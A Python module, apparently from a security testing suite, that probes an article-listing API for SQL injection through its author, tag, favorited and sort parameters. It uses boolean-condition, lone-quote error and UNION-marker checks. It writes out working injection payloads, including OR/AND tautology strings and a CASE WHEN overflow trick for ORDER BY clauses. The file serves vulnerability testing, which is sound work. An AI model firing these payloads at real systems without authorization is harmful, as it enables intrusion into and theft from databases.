"""SQL injection through the filters and the order of the list of articles (CWE-89)."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

import httpx

from security.probe import union
from security.probe.client import Client
from security.probe.outcome import CouldNotRunError, Verdict, stopped, succeeded
from security.probe.scene import Scene, field_of, new_marker, require

NOBODY = "nobody-of-this-name"
FILTERS = ("author", "tag", "favorited")
ORDERS = ("sort", "order", "order_by")
# Twice, with other numbers: a difference that comes back is no accident of other traffic.
PAIRS = (("7", "8"), ("23", "32"))


@dataclass(frozen=True)
class Attempt:
    """One place to inject into, and how a condition is written there (`{left}` equals `{right}` or does not)."""

    parameter: str
    condition: str


def sql_boolean(scene: Scene) -> Verdict:
    """A true and a false condition in a parameter give different lists, twice."""
    client = scene.people.visitor()
    attempts = list(_attempts(scene, client))
    for attempt in attempts:
        true, false = (
            {_seen(scene, client, attempt, left, right) for left, right in pairs}
            for pairs in ([(left, left) for left, _ in PAIRS], PAIRS)
        )
        if len(true) == len(false) == 1 and true != false:
            return succeeded(
                f"In {attempt.parameter} a true condition gives {_words(*true)} and a false one {_words(*false)}, "
                f"{len(PAIRS)} times each: {attempt.condition.format(left=7, right=8)}"
            )
    parameters = sorted({attempt.parameter for attempt in attempts})
    return stopped(
        f"True and false conditions in {', '.join(parameters)} give the same lists ({len(attempts)} pairs, twice)."
    )


def sql_error(scene: Scene) -> Verdict:
    """A lone quote breaks the statement, a doubled one does not, twice."""
    client = scene.people.visitor()
    _known_values(scene, client)
    for parameter in (*FILTERS, *ORDERS):
        lone, doubled = _quotes(scene, client, parameter)
        if lone:
            return succeeded(f"A lone quote in {parameter} is answered {lone}, a doubled one {doubled}, twice.")
    return stopped(f"A lone quote in {', '.join((*FILTERS, *ORDERS))} is answered like a doubled one.")


def sql_union(scene: Scene) -> Verdict:
    """A UNION brings back a marker that stands in no row."""
    client = scene.people.visitor()
    _known_values(scene, client)
    open_to_quotes = [parameter for parameter in FILTERS if _quotes(scene, client, parameter)[0]]
    if not open_to_quotes:
        return stopped(
            f"A quote changes nothing in {', '.join(FILTERS)}: no value of theirs can end and a UNION begin."
        )
    for parameter in open_to_quotes:
        payload = _marker_through(scene, client, parameter)
        if payload:
            return succeeded(f"A UNION in {parameter} brings back its marker as an article: {payload}")
    raise CouldNotRunError(
        f"A quote breaks the statement in {', '.join(open_to_quotes)}, but no UNION was found that fits."
    )


def _marker_through(scene: Scene, client: Client, parameter: str) -> str | None:
    def send(value: str) -> httpx.Response:
        return _list(scene, client, **{parameter: value})

    shape = union.find_shape(send, NOBODY)
    return union.bring_back(send, NOBODY, shape, new_marker()) if shape else None


def _attempts(scene: Scene, client: Client) -> Iterator[Attempt]:
    known = _known_values(scene, client)
    for parameter in FILTERS:
        yield Attempt(parameter, f"{NOBODY}' OR '{{left}}'='{{right}}")
        if parameter in known:
            yield Attempt(parameter, f"{known[parameter]}' AND '{{left}}'='{{right}}")
    for parameter in ORDERS:
        # An order shows no rows more or fewer; a branch that fails when it is taken shows which one was.
        yield Attempt(parameter, "(CASE WHEN {left}={right} THEN 1 ELSE abs(-9223372036854775807-1) END)")


def _known_values(scene: Scene, client: Client) -> dict[str, str]:
    """A value of each filter for which there are articles."""
    answer = _list(scene, client)
    author, tag = field_of(answer, "articles", 0, "author", "username"), field_of(answer, "articles", 0, "tagList", 0)
    require(answer.status_code == 200 and isinstance(author, str), "The target has no article to filter.")
    return {name: value for name, value in (("author", author), ("tag", tag)) if isinstance(value, str)}


def _seen(scene: Scene, client: Client, attempt: Attempt, left: str, right: str) -> tuple[int, bool]:
    """The status, and whether the list holds anything: what other traffic does not change."""
    answer = _list(scene, client, **{attempt.parameter: attempt.condition.format(left=left, right=right)})
    return answer.status_code, bool(field_of(answer, "articles"))


def _words(seen: tuple[int, bool]) -> str:
    status, any_rows = seen
    return f"{status} with {'rows' if any_rows else 'no rows'}"


def _quotes(scene: Scene, client: Client, parameter: str) -> tuple[int | None, int]:
    """The status of a lone quote if it fails where a doubled one does not, twice; and the status of the doubled one."""
    lone = [_list(scene, client, **{parameter: "'"}).status_code for _ in PAIRS]
    doubled = [_list(scene, client, **{parameter: "''"}).status_code for _ in PAIRS]
    if len({*lone}) > 1 or len({*doubled}) > 1:
        raise CouldNotRunError(
            f"The same request is answered differently: {lone} and {doubled} for quotes in {parameter}."
        )
    breaks = lone[0] >= 500 > doubled[0]
    return (lone[0] if breaks else None), doubled[0]


def _list(scene: Scene, client: Client, **parameters: str | int) -> httpx.Response:
    return scene.articles(client, **{"limit": 1, **parameters})
